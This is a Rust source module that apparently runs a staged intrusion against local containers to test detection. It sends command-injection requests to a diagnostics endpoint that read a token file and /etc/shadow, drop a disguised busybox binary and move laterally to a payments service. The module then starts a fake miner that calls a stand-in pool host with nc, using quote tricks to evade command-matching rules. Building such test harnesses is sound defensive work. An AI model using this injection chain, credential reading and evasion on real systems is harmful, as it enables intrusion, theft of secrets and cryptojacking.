//! A harmless intrusion: commands that are sent to the forgotten diagnostics of the shop, as somebody would who had found them.
//!
//! ```text
//!   this process ──http──► shop-web: sh ──► /tmp/.cache/busyboxd (dropped) ──http──► payments: sh ──► xmrig ──► 203.0.113.77, nowhere
//!                              └──► reads a token
//! ```
//! Nothing is changed but files in the containers' `/tmp`, nothing goes to another machine, and it can be done again.

use super::{Place, State, estate::TOKEN};
use crate::output;
use std::{
    io::{self, Read, Write},
    net::TcpStream,
    time::Duration,
};

/// How long an answer is waited for.
const PATIENCE: Duration = Duration::from_secs(10);
/// No answer is longer.
const MAX_ANSWER: u64 = 64 << 10;

/// Does it, step by step. A step that is held back is no error: it is what somebody may want to see.
pub(super) fn run(state: &State) {
    let [payments, _, web] = state.places();
    let pool = if state.network { "203.0.113.77" } else { "127.0.0.1" };
    let hole = format!("/diag.sh?word={}", state.word);
    // It goes through a shell in single quotes, and through `printf`. The quotes in the address are there as those who attack put
    // them there: no rule that reads the command of whoever sends it sees the word.
    let miner = format!(
        "/bin/cat /etc/shadow > /dev/null; \
         /bin/echo -e \"#!/bin/sh\\n/usr/bin/nc -w 1 {pool} 3333 < /dev/null\" > /tmp/xmrig; \
         /bin/chmod 755 /tmp/xmrig; /tmp/xmrig -o stratum\"+\"tcp://{pool}:3333; true"
    );
    let lateral = format!(
        "/usr/bin/printf 'GET {hole} HTTP/1.0\\r\\nUser-Agent: {}\\r\\n\\r\\n' | /tmp/.cache/busyboxd nc -w 5 {} {}",
        miner.replace('\\', "\\\\"),
        payments.address,
        payments.port
    );
    let steps = [
        (format!("finds out who it is in shop-web, through http://{web}/diag.sh"), "/usr/bin/id".to_owned()),
        (
            "drops a program in shop-web, /tmp/.cache/busyboxd".to_owned(),
            "/bin/mkdir -p /tmp/.cache; /bin/rm -f /tmp/.cache/busyboxd; /bin/cp /bin/busybox /tmp/.cache/busyboxd"
                .to_owned(),
        ),
        (format!("reads the token in {TOKEN}"), format!("/bin/cat {TOKEN}")),
        (
            format!(
                "goes on to payments with it, where it reads the passwords and starts a miner for {pool}:3333"
            ),
            lateral,
        ),
    ];
    output::note(&format!("looks at http://{web}/ as anybody does"));
    told(ask(web, "/", "browser"));
    for (what, command) in steps {
        output::note(&what);
        told(ask(web, &hole, &command));
    }
}

/// Says so if there was no answer.
fn told(answer: io::Result<()>) {
    if let Err(error) = answer {
        output::note(&format!("  held back, or no answer: {error}"));
    }
}

/// Asks a server, and waits until it has answered.
fn ask(place: Place, path: &str, browser: &str) -> io::Result<()> {
    let mut stream = TcpStream::connect_timeout(&place.into(), PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    write!(stream, "GET {path} HTTP/1.0\r\nUser-Agent: {browser}\r\n\r\n")?;
    let mut answer = Vec::new();
    stream.take(MAX_ANSWER).read_to_end(&mut answer)?;
    let line = answer.split(|byte| *byte == b'\n').next().unwrap_or_default();
    let line = String::from_utf8_lossy(line);
    if line.split(' ').nth(1) != Some("200") {
        return Err(io::Error::other(format!("it says {line:?}")));
    }
    Ok(())
}
